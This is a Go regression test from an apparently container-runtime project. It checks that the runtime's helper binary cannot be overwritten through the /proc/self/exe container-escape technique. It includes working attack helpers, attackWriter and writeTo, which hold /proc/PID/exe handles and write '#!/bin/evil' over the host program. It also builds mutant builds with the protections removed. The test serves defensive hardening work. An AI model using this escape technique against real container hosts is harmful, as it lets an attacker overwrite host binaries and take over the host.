// SPDX-License-Identifier: Apache-2.0

package cve

import (
	"bufio"
	"crypto/sha256"
	"errors"
	"fmt"
	"os"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/outband/outband/internal/testutil"
	"github.com/outband/outband/internal/throwaway"
	"github.com/outband/outband/test/cve/rig"
)

// exeCase is a way in which the helper's program is kept from change.
type exeCase struct {
	noexec string // vm.memfd_noexec (6.3)
	mutant rig.Change
}

func exeCases() []exeCase {
	const file = "internal/forkexec/image.go"
	unsealed := rig.Change{File: file, Old: "if _, err := unix.FcntlInt(f.Fd(), unix.F_ADD_SEALS, seals); err != nil {",
		New: "if err := error(nil); seals == 0 {"}
	writable := rig.Off(file, "\tif err := unix.FsconfigSetFlag(fs, \"ro\"); err != nil {\n\t\treturn nil, err\n\t}\n")
	return []exeCase{{"0", unsealed}, {"1", unsealed}, {"2", writable}}
}

// TestA5 enters containers whose shell is "#!/proc/self/exe": what the kernel
// executes for it is the helper's own program, and now root of the container
// can get hold of that. In a pid namespace of its own, which is what
// vm.memfd_noexec belongs to and where it can only rise.
func TestA5(t *testing.T) {
	if rig.Nest(t) {
		return
	}
	testutil.RequireKernel(t, 6, 3, "vm.memfd_noexec")
	for _, c := range exeCases() {
		t.Run("memfd_noexec="+c.noexec, func(t *testing.T) {
			begin(t)
			tool, mutant := rig.Build(t, rig.Stops()...), rig.Build(t, append(rig.Stops(), c.mutant)...)
			if err := os.WriteFile("/proc/sys/vm/memfd_noexec", []byte(c.noexec), 0); err != nil {
				t.Fatal(err)
			}
			before := sum(t, tool.Path)
			tries, written := overwrite(t, tool)
			if tries == 0 || written != "" {
				t.Errorf("tried on %d programs, written: %s", tries, written)
			}
			if sum(t, tool.Path) != before {
				t.Error("the program on disk has changed")
			}
			if _, written := overwrite(t, mutant); written == "" {
				t.Error("the mutant is not written to either: the attack is none")
			}
		})
	}
}

func sum(t *testing.T, path string) [sha256.Size]byte {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return sha256.Sum256(data)
}

// overwrite enters with a shell, and has the attacker take every program that
// comes in, and write to it once it has ended.
func overwrite(t *testing.T, tool *rig.Tool) (tries int, written string) {
	t.Helper()
	b := newBox(t, throwaway.Spec{DropCaps: ^uint64(dockerCaps)}, rig.Attack("writer"))
	shell := b.path("/bin/sh")
	if err := errors.Join(os.Remove(shell), os.WriteFile(shell, []byte("#!/proc/self/exe\n"), 0o755)); err != nil {
		t.Fatal(err)
	}
	cmd := rig.Stop(tool.Command(tool.Args("enter", "-n", b.pid())...), rig.StopAll)
	r := tool.StartCommand(cmd).EachStop(func(p *rig.Process) {
		if !rig.Numbered(p.PID) {
			return
		}
		if exe := link(p.PID, "exe"); exe == tool.Path {
			t.Errorf("process %d inside executes %s", p.PID, exe)
		}
		numbers := strings.Fields(rig.Status(p.PID, "NSpid"))
		var held bool
		b.ask(&held, "hold %s", numbers[len(numbers)-1])
		if held {
			tries++
		}
	})
	if r.Hung {
		t.Fatalf("%+v", r)
	}
	b.ask(&written, "write")
	return tries, written
}

// attackWriter is an init that holds on to programs of visitors, and writes to
// what it holds.
func attackWriter([]string) error {
	var held []int
	lines := bufio.NewScanner(os.Stdin)
	for lines.Scan() {
		pid, ok := strings.CutPrefix(lines.Text(), "hold ")
		if !ok {
			fmt.Printf("%q\n", writeTo(held))
			continue
		}
		fd, err := unix.Open("/proc/"+pid+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
		if err == nil {
			held = append(held, fd)
		}
		fmt.Println(err == nil)
	}
	return lines.Err()
}

// writeTo returns which of the files held could be written to.
func writeTo(held []int) string {
	var written []string
	for _, path := range held {
		name := fmt.Sprintf("/proc/self/fd/%d", path)
		fd, err := unix.Open(name, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		if _, err := unix.Pwrite(fd, []byte("#!/bin/evil\n"), 0); err == nil {
			target, _ := os.Readlink(name)
			written = append(written, target)
		}
		unix.Close(fd)
	}
	return strings.Join(written, " ")
}
